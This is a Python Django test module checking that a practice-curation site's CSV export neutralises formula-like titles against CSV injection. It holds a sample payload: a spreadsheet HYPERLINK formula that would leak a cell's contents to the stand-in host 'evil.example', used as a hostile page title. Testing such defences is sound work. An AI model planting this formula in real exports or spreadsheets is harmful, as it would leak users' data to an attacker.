"""Curators' CSV exports never hand a spreadsheet program a formula (issue 12, finding 8)."""

import csv
import io

from django.contrib.auth.models import Group
from django.test import TestCase
from django.urls import reverse

from practices.exports import neutralise_formula
from practices.roles import setup_roles
from practices.visibility import CURATORS_GROUP
from tests.factories import CityPageFactory, PracticePageFactory, UserFactory

EVIL = '=HYPERLINK("http://evil.example/?leak="&A2,"Open")'


class CsvInjectionTests(TestCase):
    """A title that looks like a formula is exported as text."""

    @classmethod
    def setUpTestData(cls):
        setup_roles()
        city = CityPageFactory(title="Exportville")
        cls.evil = PracticePageFactory(title=EVIL, slug="evil", parent=city)
        PracticePageFactory(title="-5 °C winter outreach", slug="winter", parent=city)
        PracticePageFactory(title="Plain practice", slug="plain", parent=city)
        cls.curator = UserFactory(username="export-curator")
        cls.curator.groups.add(Group.objects.get(name=CURATORS_GROUP))

    def test_formula_like_titles_are_quoted_in_the_curation_csv(self):
        self.client.force_login(self.curator)
        response = self.client.get(reverse("curation:index"), {"export": "csv"})
        content = b"".join(response.streaming_content).decode("utf-8-sig")
        titles = {row["title"] for row in csv.DictReader(io.StringIO(content))}
        self.assertIn("'" + EVIL, titles)
        self.assertIn("'-5 °C winter outreach", titles)
        self.assertIn("Plain practice", titles)
        self.assertFalse(any(title.startswith(("=", "+", "-", "@")) for title in titles))

    def test_every_formula_start_is_neutralised_and_nothing_else(self):
        for value in ("=1+1", "+1", "-1", "@SUM(A1)", "\tx", "\rx"):
            with self.subTest(value=value):
                self.assertEqual(neutralise_formula(value), "'" + value)
        for value in ("Plain", "", 42, None, " =not at the start"):
            with self.subTest(value=value):
                self.assertEqual(neutralise_formula(value), value)
